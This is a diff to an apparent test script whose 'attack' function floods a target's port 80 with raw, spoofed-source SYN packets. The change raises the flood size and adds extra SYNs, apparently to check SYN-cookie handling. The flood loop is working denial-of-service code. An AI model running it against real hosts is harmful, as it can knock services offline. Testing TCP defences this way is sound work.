@@ -158,9 +158,11 @@ RST, SYN, PSH_ACK = 4, 2, 24
 def attack(address):
     """Packets that a blind attacker sends: half-open connections without end; resets and data that do not fit quite."""
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    for i in range(1500):
+    for i in range(3000):
         raw.sendto(segment(f'198.51.100.{i % 250 + 1}', address, 1024 + i, 80, i * 7919, 0, SYN), (address, 0))
-    for _ in range(3):
+    # All half-open connections that there may be are these: who comes now gets a cookie, and a whole page by it.
+    for _ in range(5):
+        raw.sendto(segment('198.51.100.254', address, 1023, 80, 1, 0, SYN), (address, 0))
         fetch(address)
     with socket.create_connection((address, 80), timeout=30) as s:
         host, port = s.getsockname()
